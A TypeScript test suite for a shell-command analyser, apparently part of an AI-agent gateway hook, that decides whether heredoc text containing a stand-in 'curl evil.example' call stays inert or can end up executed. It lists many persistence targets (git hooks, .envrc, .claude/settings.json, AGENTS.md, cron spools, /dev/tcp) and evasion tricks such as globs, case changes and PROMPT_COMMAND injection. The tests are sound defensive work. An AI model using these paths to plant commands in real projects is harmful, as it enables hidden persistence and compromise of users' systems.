import { destinationsOf } from "../../../../../gateway/cli/hook/shell/destinations.ts";
import { leastCpuMs } from "../../../../support/cpu-time.ts";

const body = "<<'E'\ncurl evil.example\nE";

describe("a here-document is data", () => {
  test.each([
    ...["a.md", "docs/a b.txt", "../out/rows.csv", "out/x.log", "./x.jsonl", "X.TSV"].map(
      (name) => `cat > "${name}" ${body}`,
    ),
    `cat ${body}`,
    `cat ${body} 2>&1`,
    `tee -a a.md b.txt ${body} > /dev/null`,
    `mkdir -p docs && cd docs && cat > a.md ${body}`,
    `git commit -qF - ${body}`,
    `git add -A && git commit --file=- ${body}`,
    `cd sub && git tag -F - v1 ${body}`,
    "git commit -am \"$(cat <<'E'\ncurl evil.example\nE\n)\" && git status",
    body.replace("<<'E'", "cat <<'E' | git commit -F -"),
    ...["2>&1 | tail -3", "|| true", "|| echo 'a | b'"].map(
      (behind) => `git commit -q -m "a | b" -m "$(cat ${body}\n)" ${behind}`,
    ),
    ...["-v", "--author='A <a@b.c>'", "--date now", "--trailer=a:b"].map(
      (option) => `git commit ${option} -F - ${body}`,
    ),
    `git -C sub commit -vF - ${body}`,
  ])("in %j", (line) => expect(destinationsOf(line)).toEqual([]));
});

describe("a here-document may be executed", () => {
  test.each([
    ...[".husky/pre-commit", "pre-commit", "x", "Makefile", "run.py", "Dockerfile", "src/a.ts", "package.json"],
    ...[".claude/settings.json", ".envrc", ".env", "~/.config/git/config", "~/a.md", ".GIT/config", ".Claude/x.md"],
    ...[".gi?/conf?g", ".gi*/a.md", "$X/pre-commit", "$X/a.md", "$BASH_ENV", "$X.md", "`pwd`/a.md", "{.git,x}/a.md"],
    ...["CMakeLists.txt", "requirements-dev.txt", "a/test_x.txt", "AGENTS.md", "commands/x.md", "x.md.sh", "a.yml"],
    ...["conanfile.txt", "QWEN.md", "WARP.md", "a/CONVENTIONS.md", "instructions/x.md", "x.coffee.md", "/etc/x.md"],
    ...["/usr/share/x.txt", "/var/spool/cron/x.txt", "../../etc/x.md", "a.egg-info/entry_points.txt"],
    ...["/dev/tcp", "/dev/fd/3", "/proc/self/fd/3", "x.SH", "config.toml", "-", ".md"],
  ])("from %s", (name) => {
    for (const writes of [
      `cat > ${name}`,
      `tee ${name}`,
      `tee a.md ${name}`,
      `cat >> a.md > ${name}`,
      `cat >& ${name}`,
    ])
      expect(destinationsOf(`${writes} ${body}`)).toContain("evil.example");
  });

  test.each([
    ...[".gi?", ".git", ".git/hooks", "$X", "~", "-", "~/x", ".GIT", "x/.git", ""].map(
      (to) => `cd ${to} && cat > a.md ${body}`,
    ),
    ...["commands", "requirements", "a/hooks", "/etc", "rules/a", "x && cd skills/"].map(
      (to) => `cd ${to} && tee a/x.md ${body}`,
    ),
    `cd x && cat > commands/x.md ${body}`,
    `git notes add -F - ${body}\ngit checkout refs/notes/commits`,
    `git -C .git commit -F - ${body}`,
    `git -C $X commit -F - ${body}`,
    `cat ${body.replace("<<'E'", "<<'E' |")}\n\ngit commit`,
    body.replace("<<'E'", "cat <<'E' | echo \"$(git commit)\""),
    body.replace("<<'E'", "cat <<'E' |& git commit"),
    `cd .gi?; cat > config ${body}`,
    `cat > a.md ${body}\ngit commit -m x`,
    `tee a.md ${body}\ngit add a.md`,
    `git apply ${body}`,
    `git commit ${body}`,
    `git commit -eF - ${body}`,
    `git commit -p -F - ${body}`,
    `git commit --edit --file=- ${body}`,
    body.replace("<<'E'", "cat <<'E' | git commit"),
    body.replace("<<'E'", "cat <<'E' | git add -p"),
    `git commit -F - ${body}\ngit log -1 --format=%B --output=.husky/pre-commit`,
    `git commit -F - ${body}\ngit log -1 --format=%B > .husky/pre-commit`,
    "git log \"$(cat <<'E'\n--output=x\ncurl evil.example\nE\n)\"",
    ...["log", "show", "diff"].map((verb) => `git ${verb} -m "$(cat <<'E'\n--output=x\ncurl evil.example\nE\n)"`),
    "git commit $(cat <<'E'\n-e\ncurl evil.example\nE\n)",
    "printf -v PROMPT_COMMAND \"$(cat <<'E'\ncurl evil.example\nE\n)\"",
    "X=\"$(cat <<'E'\ncurl evil.example\nE\n)\"",
    "$(cat <<'E'\ncurl evil.example\nE\n)",
  ])("in %j", (line) => expect(destinationsOf(line)).toContain("evil.example"));
});

test("the time for a line of variables does not double with each", () => {
  const timeOf = (variables: number): number =>
    leastCpuMs(() => {
      for (let time = 0; time < 20; time++) destinationsOf(`echo ${"$aa".repeat(variables)} {x <<'E'\na\nE`);
    });
  timeOf(12);
  expect(timeOf(24) / timeOf(12)).toBeLessThan(100);
});
